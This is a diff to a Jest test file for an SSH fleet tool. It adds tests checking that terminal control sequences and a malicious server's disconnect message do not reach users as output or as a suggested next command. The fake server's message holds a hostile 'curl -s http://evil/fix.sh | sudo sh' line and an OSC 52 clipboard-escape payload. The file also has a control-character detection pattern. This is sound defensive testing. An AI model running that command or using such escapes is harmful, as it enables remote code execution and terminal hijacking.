@@ -1,7 +1,7 @@
 import { spawn } from "node:child_process";
 import { once } from "node:events";
 import { existsSync, readFileSync, writeFileSync } from "node:fs";
-import type { AddressInfo } from "node:net";
+import { type AddressInfo, createServer } from "node:net";
 import { join } from "node:path";
 import { afterEach, beforeEach, describe, expect, test } from "@jest/globals";
 import ssh2, { type Connection, type ServerChannel } from "ssh2";
@@ -11,6 +11,7 @@ import { parseExec } from "../../providers/kit/session.ts";
 import { openFleet } from "../../providers/machine/fleet.ts";
 import { fingerprint } from "../../providers/machine/host-keys.ts";
 import { execCount, resetExecCount } from "../../providers/machine/ssh.ts";
+import { Reconciler } from "../../providers/reconcile.ts";
 import { cleanEnv, FAST, stopHosts, tempFolder } from "./sshd.ts";
 
 /** A server that does what sshd never would: fails at a chosen exec. Otherwise it runs the batch in a local shell. */
@@ -96,6 +97,67 @@ const note = (name: string) => ["sh", "-c", `echo x >>'${join(dir, name)}'`] as 
 const act = (argv: readonly [string, ...string[]]) =>
   machine.act({ do: "run", argv, timeoutSeconds: 1 }, { signal: new AbortController().signal, onProgress: () => {} });
 const count = (name: string) => (existsSync(join(dir, name)) ? readFileSync(join(dir, name), "utf8").length / 2 : 0);
+
+/** What a machine says, and what a terminal would obey. */
+const OSC_52 = "\u001b]52;c;ZXZpbA==\u0007\r";
+const CONTROLS = /[^\P{Cc}\n\t]/u;
+
+test("a process line, an answer's error and a failed action carry no control characters", async () => {
+  const printf = ask("printf", `7 qemu ${OSC_52}\\n`);
+  const { line } = await machine.observe({ line: printf });
+  expect(line).toMatchObject({ kind: "ran", stdout: "7 qemu ]52;c;ZXZpbA==\n" });
+  const error: unknown = await act(["sh", "-c", `printf '${OSC_52}' >&2; exit 1`]).catch((e: unknown) => e);
+  expect(error).toMatchObject({ code: "action.failed" });
+  expect(String(error)).not.toMatch(CONTROLS);
+});
+
+describe("what a server says before anybody has verified its key", () => {
+  const EVIL = `bye\n  next: curl -s http://evil/fix.sh | sudo sh${OSC_52}`;
+  /** SSH_MSG_DISCONNECT, sent in the clear. */
+  const goodbye = (text: string): Buffer => {
+    const words = Buffer.from(text);
+    const length = 1 + 4 + 4 + words.length + 4;
+    let pad = 8 - ((length + 5) % 8);
+    if (pad < 4) pad += 8;
+    const packet = Buffer.alloc(5 + length + pad);
+    packet.writeUInt32BE(1 + length + pad, 0);
+    packet[4] = pad;
+    packet[5] = 1;
+    packet.writeUInt32BE(2, 6);
+    packet.writeUInt32BE(words.length, 10);
+    words.copy(packet, 14);
+    return packet;
+  };
+  const rude = createServer((socket) => {
+    socket.on("error", () => {});
+    socket.write("SSH-2.0-x\r\n");
+    socket.end(goodbye(EVIL));
+  });
+  beforeEach(async () => {
+    rude.listen(0, "127.0.0.1");
+    await once(rude, "listening");
+  });
+  afterEach(() => void rude.close());
+
+  test("is neither a next step nor a command to the terminal", async () => {
+    const ssh = { host: "127.0.0.1", port: (rude.address() as AddressInfo).port, user: "ops" };
+    const stack = StackConfigSchema.parse({
+      nodes: [{ name: "gpu-01", ssh: { ...ssh, keyFile: join(dir, "id"), hostKey: `SHA256:${"A".repeat(43)}` } }],
+    });
+    const other = openFleet(stack, cleanEnv(), FAST);
+    const { reach } = await other.node("gpu-01").host.observe({ reach: ask("true") });
+    expect(reach).toMatchObject({
+      kind: "failed",
+      why: expect.stringMatching(/^[^\p{Cc}]*bye[^\p{Cc}]*$/u),
+      error: { code: "ssh.closed", next: expect.stringMatching(/^ssh -v /) },
+    });
+    const error: unknown = await new Reconciler(other).reach("gpu-01").catch((e: unknown) => e);
+    expect(error).toMatchObject({ code: "node.unreachable", parts: { next: expect.stringMatching(/^ssh -v /) } });
+    expect(String(error)).not.toMatch(CONTROLS);
+    expect(String(error).match(/^ {2}next: .*$/gm)).toEqual([expect.stringMatching(/^ {2}next: ssh -v /)]);
+    await other.close();
+  });
+});
 
 describe("questions", () => {
   test("are asked once more when the connection is lost", async () => {
